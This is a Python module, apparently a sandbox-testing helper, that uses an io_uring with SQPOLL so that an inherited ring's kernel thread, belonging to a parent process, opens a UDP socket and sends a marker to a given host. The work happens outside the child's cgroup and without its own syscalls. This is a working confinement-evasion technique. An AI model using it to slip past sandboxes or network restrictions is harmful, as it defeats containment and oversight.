"""An io_uring whose kernel thread belongs to a process outside (IORING_SETUP_SQPOLL).

What is submitted is done by that thread, in its cgroup and with its descriptors and its memory,
without a call of the submitter's.
"""

import ctypes
import mmap
import os
import socket
import struct
import sys
import time

from tricks import LIBC, check, sockaddr

SETUP, ENTER = 425, 426
SQPOLL, WAKE_UP = 2, 2
OP_NOP, OP_CONNECT, OP_SEND, OP_SOCKET = 0, 16, 26, 45
SQ_RING, CQ_RING, SQES = 0, 0x8000000, 0x10000000
# Where the lender puts what the kernel reads from its memory: an address, and a text.
LENT = 0x7E0000000000
FIXED = 0x32  # MAP_PRIVATE, MAP_FIXED, MAP_ANONYMOUS


def lend(descriptor, host, port, mark, *words):
    """Starts `words` as a child that inherits the ring."""
    parameters = ctypes.create_string_buffer(120)
    # struct io_uring_params: flags at 8, milliseconds until the thread sleeps at 16
    struct.pack_into("III", parameters, 8, SQPOLL, 0, 60000)
    descriptor, number = int(descriptor), LIBC.syscall(SETUP, 4, parameters)
    check(number)
    os.dup2(number, descriptor)
    LIBC.mmap.restype = ctypes.c_void_p
    LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    LIBC.mmap(LENT, 4096, 3, FIXED, -1, 0)
    address = bytes(sockaddr(host, port))
    ctypes.memmove(LENT, address + mark, len(address) + len(mark))
    ring = Ring(descriptor, parameters.raw)
    ring.push(OP_NOP, -1)
    check(LIBC.syscall(ENTER, descriptor, 1, 0, WAKE_UP, None, 0))
    ring.wait()
    os.environ["RING"] = parameters.raw.hex()
    os.environ["MARK"] = mark.decode()
    child = os.fork()
    if child == 0:
        os.execvp(words[0], words)
    sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))


def send(descriptor):
    """Has the lender's thread make a socket and send."""
    ring = Ring(int(descriptor), bytes.fromhex(os.environ["RING"]), 1)
    flow = ring.do(OP_SOCKET, socket.AF_INET, socket.SOCK_DGRAM)
    ring.do(OP_CONNECT, flow, 16, LENT)
    ring.do(OP_SEND, flow, 0, LENT + 16, len(os.environ["MARK"]))


class Ring:
    """As io_uring_setup(2) lays it out: offsets of struct io_sqring_offsets at 40, of io_cqring_offsets at 80."""

    def __init__(self, descriptor, parameters, done=0):
        self.sq, self.cq = struct.unpack_from("7I", parameters, 40), struct.unpack_from("6I", parameters, 80)
        self.submissions = mmap.mmap(descriptor, 4096, offset=SQ_RING)
        self.completions = mmap.mmap(descriptor, 4096, offset=CQ_RING)
        self.entries = mmap.mmap(descriptor, 4096, offset=SQES)
        self.done = done

    def do(self, *entry):
        self.push(*entry)
        return self.wait()

    def push(self, operation, descriptor, offset=0, address=0, length=0):
        slot = self.done % 4
        struct.pack_into("BBHiQQI36x", self.entries, 64 * slot, operation, 0, 0, descriptor, offset, address, length)
        struct.pack_into("I", self.submissions, self.sq[6] + 4 * slot, slot)
        struct.pack_into("I", self.submissions, self.sq[1], self.done + 1)

    def wait(self):
        deadline = time.monotonic() + 2
        while struct.unpack_from("I", self.completions, self.cq[1])[0] == self.done:
            if time.monotonic() > deadline:
                raise OSError("the ring's thread does nothing")
        _, result = struct.unpack_from("Qi", self.completions, self.cq[5] + 16 * (self.done % 8))
        self.done += 1
        struct.pack_into("I", self.completions, self.cq[0], self.done)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result
